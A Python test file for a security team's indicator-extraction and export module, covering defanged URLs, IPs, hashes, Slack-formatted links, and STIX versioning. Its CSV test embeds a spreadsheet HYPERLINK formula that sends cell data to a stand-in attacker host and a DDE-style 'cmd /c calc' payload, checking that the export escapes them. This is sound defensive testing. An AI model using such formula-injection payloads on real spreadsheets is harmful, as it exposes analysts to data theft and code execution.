"""Indicators found in note texts as responders write them, defanged or not, and as Slack sends
them (links wrapped as `<url|label>`), with the look-alikes that are not indicators."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from bridgekeeper.domain import indicator_export as export
from bridgekeeper.domain.indicators import Found, defang, extract, from_entities

MD5 = "44d88612fea8a8f36de82e1278abb02f"
SHA1 = "3395856ce81f2b7382dee72602f798b642f14140"
SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"

NOTES: list[tuple[str, list[tuple[str, str]]]] = [
    (
        "Beacon to hxxp://update-cdn[.]net/gate.php every 60s from web-3",
        [("url", "http://update-cdn.net/gate.php")],
    ),
    (
        "Outbound to 185.220.101[.]42:443 and 45[.]153[.]160[.]2, both Tor exits",
        [("ipv4", "185.220.101.42"), ("ipv4", "45.153.160.2")],
    ),
    (
        f"Dropper MD5 {MD5}, SHA1 {SHA1.upper()}.",
        [("md5", MD5), ("sha1", SHA1)],
    ),
    (
        f"sha256={SHA256} matches the VT sample",
        [("sha256", SHA256)],
    ),
    (
        "Phish came from billing[@]acme-invoices[.]com, reply-to payments(at)acme-invoices(dot)com",
        [("email", "billing@acme-invoices.com"), ("email", "payments@acme-invoices.com")],
    ),
    (
        "Blocked <http://login-microsoftonline.co|login-microsoftonline.co> at the proxy",
        [("domain", "login-microsoftonline.co")],
    ),
    (
        "Creds posted to <https://forms.evil-site.xyz/submit?id=7&u=alice>",
        [("url", "https://forms.evil-site.xyz/submit?id=7&u=alice")],
    ),
    (
        "Mail from <mailto:ceo@acme-corp.com|ceo@acme-corp.com> asked for gift cards",
        [("email", "ceo@acme-corp.com")],
    ),
    (
        "Payload pulled with hxxps[://]raw.githubusercontent[.]com/x/y/main/run.ps1",
        [("url", "https://raw.githubusercontent.com/x/y/main/run.ps1")],
    ),
    (
        "C2 domain EVIL-Domain[.]TOP resolves to 2a01:4f8:c010:1::1",
        [("domain", "evil-domain.top"), ("ipv6", "2a01:4f8:c010:1::1")],
    ),
    (
        "Lateral movement 10.0.4.17 -> 10.0.4.22 over SMB",
        [("ipv4", "10.0.4.17"), ("ipv4", "10.0.4.22")],
    ),
    (
        "FTP exfil to fxp://files.dropzone[.]ru/out",
        [("url", "ftp://files.dropzone.ru/out")],
    ),
    (
        "Same hash again: 44D88612FEA8A8F36DE82E1278ABB02F and 44d88612fea8a8f36de82e1278abb02f",
        [("md5", MD5)],
    ),
    (
        "Wiki: (see https://en.wikipedia.org/wiki/Mimikatz_(software)) for the tool.",
        [("url", "https://en.wikipedia.org/wiki/Mimikatz_(software)")],
    ),
    (
        "Typosquat paypa1-secure[dot]com registered yesterday; also www.paypa1-secure.com.",
        [("domain", "paypa1-secure.com"), ("domain", "www.paypa1-secure.com")],
    ),
    # Not indicators: file names, versions, times, ids, mentions and channels.
    ("Rolled back to 1.2.3, then upgraded nginx to 1.25.3.1.2", []),
    ("See report.pdf, main.py, setup.sh and README.md in the repo", []),
    ("Call at 12:30:45 with <@U0BOB> in <#C0123|war-room>, <!here>", []),
    ("Ticket INC-20240311 opened; deploy abc123 reverted; 999.1.1.1 is no address", []),
    ("Logs in /var/log/auth.log and C:\\Windows\\Temp\\x.exe, host name web-3.internal", []),
]


@pytest.mark.parametrize(("text", "expected"), NOTES)
def test_notes_yield_their_indicators(text: str, expected: list[tuple[str, str]]) -> None:
    assert [(f.type, f.value) for f in extract(text)] == expected


def test_alert_entities_are_hosts_addresses_and_accounts() -> None:
    entities = {
        "hosts": ["VM-WEB-01", "vm-web-01"],
        "ips": ["203.0.113.9", "not an ip", "2001:DB8::5"],
        "accounts": ["CONTOSO\\alice"],
    }
    assert from_entities(entities) == [
        Found("host", "vm-web-01"),
        Found("ipv4", "203.0.113.9"),
        Found("ipv6", "2001:db8::5"),
        Found("account", "CONTOSO\\alice"),
    ]


def test_values_are_shown_defanged() -> None:
    assert defang("url", "https://evil.com/a") == "hxxps://evil[.]com/a"
    assert defang("ipv4", "1.2.3.4") == "1[.]2[.]3[.]4"
    assert defang("email", "a@b.com") == "a[@]b[.]com"
    assert defang("md5", MD5) == MD5


def test_overlong_values_are_no_indicators() -> None:
    assert extract("http://evil.com/" + "数" * 400) == []
    assert from_entities({"hosts": ["h" * 1001]}) == []


def test_the_csv_export_never_holds_a_formula() -> None:
    """An alert's account or host may be anything: exported, a cell starting with = + - @ would
    run as a formula when an analyst opens the file in a spreadsheet."""
    found = from_entities(
        {
            "accounts": ['=HYPERLINK("http://evil.example/?x="&A1,"x")'],
            "hosts": ["@sum(1+1)*cmd|' /c calc'!a0"],
        }
    )
    at = datetime(2026, 1, 5, tzinfo=UTC)
    items = [export.Shared(f.type, f.value, at, at, "=alert 1 entities") for f in found]
    rows = list(csv.reader(io.StringIO(export.csv_text(items))))[1:]
    assert len(rows) == 2
    assert [row[1][:2] for row in rows] == ["'=", "'@"] and rows[0][3] == "'=alert 1 entities"


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("nginx: ::ffff:203.0.113.5 - - POST /wp-login.php 200", "203.0.113.5"),
        ("Tomcat log: ::FFFF:198.51.100.23 brute-forcing", "198.51.100.23"),
    ],
)
def test_an_ipv4_address_a_dual_stack_server_logged_is_found_whole(text: str, address: str) -> None:
    """It was cut into a wrong IPv6 address ("::ffff:203"): the attacker's IPv4 was lost."""
    assert [(f.type, f.value) for f in extract(text)] == [("ipv4", address)]


def test_a_stix_export_made_again_is_a_new_version_of_the_same_objects() -> None:
    import stix2

    seen, declared = datetime(2026, 3, 1, 9, tzinfo=UTC), datetime(2026, 3, 1, 10, tzinfo=UTC)
    ip = export.Shared("ipv4", "185.220.101.42", seen, declared, "note by U0ALICE")
    report = export.SharedReport("7/2026-03-01T10:00:00+00:00", "Incident 7", declared)
    first = stix2.parse(
        export.stix_bundle([ip], team="SOC", report=report, at=datetime(2026, 3, 2, tzinfo=UTC))
    )
    domain = export.Shared("domain", "update-cdn.net", seen, declared, "alert")
    later = datetime(2026, 3, 5, tzinfo=UTC)
    again = stix2.parse(export.stix_bundle([ip, domain], team="SOC", report=report, at=later))
    before = {o.id: o for o in first.objects}
    for obj in again.objects:
        if obj.id in before:  # the same object: its first version's creation, a later change
            assert obj.created == before[obj.id].created and obj.modified >= before[obj.id].modified
    assert {o.id for o in first.objects} < {o.id for o in again.objects}
    assert [o.modified for o in again.objects if o.type in ("report", "indicator")] == [later] * 3
    other = export.SharedReport("7/2026-04-09T08:00:00+00:00", "Incident 7", later)
    elsewhere = stix2.parse(export.stix_bundle([ip], team="SOC", report=other, at=later))
    assert [o.id for o in elsewhere.objects][1:] != [o.id for o in first.objects][1:]
